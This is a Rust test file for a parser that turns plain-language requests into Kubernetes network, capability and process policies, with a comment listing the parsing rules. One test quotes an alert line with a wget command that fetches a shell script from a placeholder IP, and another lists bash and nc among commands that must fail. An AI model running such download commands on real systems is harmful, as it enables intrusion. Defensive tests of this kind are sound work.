//! Rules written in session 23 after the blind round `hm-` … `hp-` (course
//! platforms, asks typed in a hurry, messaging systems, asks restating
//! upstream tests): a log line's "component: Message …" is no pasted
//! configuration (the ask was then read with its story); "reach 9644 on
//! the brokers, app…=…" names the pods reached; advice quoted "From the
//! maintainer's answer: …" asks nothing; "DNS and port 80" keeps DNS (it
//! was dropped); "send nothing but DNS and port 80 traffic" is an
//! allow-list; "… so we can see who calls it" is the ask's purpose;
//! "one namespace" names none; "the agent pods app=localagi" are labelled;
//! a ", where …" clause describes; a Windows command's switches and
//! "/tmp;wget" are no executables; "CoreDNS itself (/coredns)" is one
//! program; "on top of that, audit …" commands. After the round `hq-` …
//! `ht-`: "get alerted" audits; "What policy would make …?" asks; "HTTP
//! 403" is a status, no port 80; "the metadata service" names no pods;
//! "…, so only X may connect on P" names no pods connected to. Each test
//! states the rule with phrasings of its own and fails without it, but for
//! the guard marked.

mod parse_helpers;

use kubescribe_core::intent::{Action, Direction, Domain};
use parse_helpers::{parsed, port_numbers};

#[test]
fn a_log_lines_message_is_no_configuration() {
    let i = parsed(
        "seastar: Unable to set SCHED_FIFO. We get logs from seastar about SCHED_FIFO: \"Unable to set SCHED_FIFO scheduling policy; latency impact possible. Try adding CAP_SYS_NICE or CAP_SYS_ADMIN\". Give the engine pods (app.kubernetes.io/name: engine, namespace core) CAP_SYS_NICE and drop every other capability.",
    );
    assert_eq!(i.domain, Domain::Capability);
    assert_eq!(i.action, Action::Allow);
    assert_eq!(i.resources.capabilities, vec!["sys_nice"]);
}

#[test]
fn the_pods_glossed_after_a_comma_are_the_ones_reached() {
    let i =
        parsed("only app=console may reach 9644 on the brokers, app=broker in namespace stream.");
    assert_eq!(
        i.scope.labels.get("app").map(String::as_str),
        Some("broker")
    );
    assert_eq!(i.direction, Some(Direction::Ingress));
}

#[test]
fn quoted_advice_asks_nothing() {
    let i = parsed(
        "Anyone who knows a node's name can join the cluster. From the maintainer's answer: One should never expose ports other than the listener ports. For the mq pods (app=mq, namespace iot), 4370 should only be reachable from the mq pods themselves.",
    );
    assert_eq!(i.action, Action::Allow);
    assert_eq!(port_numbers(&i), vec![4370]);
}

#[test]
fn a_protocol_listed_before_a_numbered_port_keeps_its_own() {
    let i = parsed("allow DNS and port 8080 egress for app=x in namespace y");
    let mut ports = port_numbers(&i);
    ports.sort_unstable();
    ports.dedup();
    assert_eq!(ports, vec![53, 8080]);
}

#[test]
fn sending_nothing_but_some_traffic_is_an_allow_list() {
    let i = parsed(
        "the sandbox pods (app=sandbox, namespace lab) should send nothing but port 443 traffic.",
    );
    assert_eq!(i.action, Action::Allow);
    assert_eq!(i.direction, Some(Direction::Egress));
    assert_eq!(port_numbers(&i), vec![443]);
}

#[test]
fn the_asks_purpose_is_no_traffic() {
    let i = parsed(
        "log every connection to port 9000 of the minio pods (app=minio, namespace s3) so we can see who calls it.",
    );
    assert_eq!(i.direction, Some(Direction::Ingress));
}

#[test]
fn how_many_namespaces_names_none() {
    let i = parsed(
        "We need just one namespace for this: in namespace shop, none of the pods may run /usr/bin/apt.",
    );
    assert_eq!(i.scope.namespace.as_deref(), Some("shop"));
}

#[test]
fn a_label_right_after_the_pods_word_labels_them() {
    let i = parsed(
        "block all ingress to 2376 on app=dockerd (ns ci) except from the build pods app=runner",
    );
    assert_eq!(i.resources.peers.len(), 1, "{i:?}");
    assert_eq!(
        i.resources.peers[0].labels.get("app").map(String::as_str),
        Some("runner")
    );
}

#[test]
fn a_where_clause_describes() {
    let i = parsed(
        "The upstream suite ships a dns-only test, where the client pods may only reach one.one.one.one on 80. Same for us: pods labelled app=notifier in namespace alerts may only reach hooks.slack.com on 443.",
    );
    assert_eq!(i.resources.fqdns, vec!["hooks.slack.com"]);
    assert_eq!(port_numbers(&i), vec![443]);
}

/// Guard: "… which lets the client reach X and nothing else" describes; the
/// ask after it is read alone.
#[test]
fn a_description_with_nothing_else_is_no_ask() {
    let i = parsed(
        "The datapath test installs a policy which lets the client reach pod-name=server-2 and nothing else. Need the same for the reports: lock down app=report in namespace rep so its egress only goes to the renderer pods (app=renderer).",
    );
    assert_eq!(i.action, Action::Allow);
}

#[test]
fn a_windows_commands_switches_are_no_executables() {
    let i = parsed(
        "Alert description: script download, C:\\Windows\\system32\\cmd.exe /ccd /tmp;wget http://203.0.113.9/x.sh; Parent Process: java.exe. Keep java (/usr/bin/java) from spawning /bin/sh in the app pods (app=app, namespace prod).",
    );
    assert_eq!(i.resources.binaries, vec!["/bin/sh"]);
}

#[test]
fn a_programs_name_beside_its_path_is_no_second_executable() {
    let i = parsed(
        "Finding 12, keys stored in cleartext (Medium): credentials must be pulled from the config. Exploit Scenario: An attacker gains access to a server running CoreDNS. The actor then locates the config and obtains the key. Our resolver (app.kubernetes.io/name=coredns, namespace dns) uses the cloud plugin, so its secret sits in /etc/coredns/Corefile. That file should be readable only by CoreDNS itself (/coredns).",
    );
    assert_eq!(i.resources.sources, vec!["/coredns"]);
    assert!(i.resources.binaries.is_empty(), "{i:?}");
}

#[test]
fn a_command_after_on_top_of_that_asks() {
    let i = parsed(
        "Config hardening: for production systems, it is advised to set the data location via the environment variable. This prevents overriding it via the admin GUI. We now pin APP_DATA_DIR in the deployment; on top of that, audit any writes under /opt/app/webapps/ in the app pods (app=app, namespace web).",
    );
    assert_eq!(i.action, Action::Audit);
}

// Rules after the round `hq-` … `ht-` (finance software, questions as
// posted on forums, registries, security tools' own protection).

#[test]
fn getting_alerted_is_an_audit() {
    let i = parsed(
        "How do I get alerted whenever anything in the api pods (app=api, namespace web) accesses /etc/api/keys.json? Don't block it, the app needs it.",
    );
    assert_eq!(i.action, Action::Audit);
}

#[test]
fn a_question_for_the_policy_asks() {
    let i = parsed(
        "I want the API server's proxy and to block in-cluster access. What policy would make the console pods (app=console, namespace ops) reachable on 9443 only from the API server?",
    );
    assert_eq!(i.action, Action::Allow);
    assert_eq!(port_numbers(&i), vec![9443]);
}

#[test]
fn an_http_status_code_is_no_port() {
    let i = parsed(
        "block 8443 on the web pods (app=web, namespace art), it only returns HTTP 403 Forbidden anyway",
    );
    assert_eq!(port_numbers(&i), vec![8443]);
}

#[test]
fn the_metadata_service_names_no_pods() {
    let e = parse_helpers::refused(
        "Is there a way to block the build pods (app=builder, namespace ci) from accessing the metadata service?",
    );
    assert!(e.contains("which traffic"), "{e}");
}

#[test]
fn so_only_these_may_connect_names_no_pods_connected_to() {
    let e = parse_helpers::refused(
        "Anyone who can POST to our hook could fake an event, so only the billing pods (app=billing) may connect on 9000 in namespace pay.",
    );
    assert!(e.contains("which pods"), "{e}");
}

/// After round 48 (`hv-`, acceptance criteria): a list item saying what
/// fails is what the allow-list shuts out (its programs were allowed).
#[test]
fn an_acceptance_criterion_that_fails_is_shut_out() {
    let i = parsed(
        "[core] Backup job with a command allowlist. It runs only listed commands inside a locked-down container (no shell).\n\nAcceptance criteria for the job pods (app=job, namespace batch):\n- only the listed commands may run: /usr/bin/rsync and /bin/tar\n- unlisted commands fail closed, /bin/bash and /usr/bin/nc included\n- tests: a listed command runs; an unlisted command fails closed",
    );
    assert_eq!(i.action, Action::Allow);
    assert_eq!(i.resources.binaries, vec!["/usr/bin/rsync", "/bin/tar"]);
}

/// Guard: outside a list, "… is denied" is the ask itself.
#[test]
fn a_denial_outside_a_list_is_the_ask() {
    let i = parsed(
        "Allow only internal connections. Block external ones: egress from app=db (ns data) to the internet is denied",
    );
    assert_eq!(i.action, Action::Block);
}
